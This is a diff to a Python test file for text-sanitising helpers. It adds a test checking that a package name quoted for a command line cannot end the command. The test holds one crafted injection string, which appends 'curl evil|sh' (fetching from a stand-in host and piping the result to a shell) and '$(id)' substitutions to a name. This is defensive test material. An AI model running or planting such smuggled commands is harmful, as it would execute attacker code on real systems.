@@ -1,13 +1,14 @@
 """Nothing that acts or hides on a terminal survives ``visible``."""
 
 import json
+import shlex
 import unicodedata
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from asf_core.domain.text import json_escaped, one_line, visible
+from asf_core.domain.text import json_escaped, one_line, shell_word, visible
 
 PAYLOADS = {
     "colour": ("\x1b[31mred", "␛[31mred"),
@@ -51,3 +52,10 @@ def test_escaped_json_is_equal_and_hides_nothing(value: object) -> None:
 
 def test_a_lone_surrogate_can_be_printed() -> None:
     assert json_escaped(json.dumps("\ud800", ensure_ascii=False)) == '"\\ud800"'
+
+
+def test_a_name_as_a_word_of_a_command_line_ends_no_command() -> None:
+    assert shell_word("reg/carver@1.0.0") == "reg/carver@1.0.0"
+    nasty = "reg/x; curl evil|sh\x1b $(id) `id` 'q'"
+    (word,) = shlex.split(shell_word(nasty))
+    assert word == "reg/x; curl evil|sh␛ $(id) `id` 'q'"
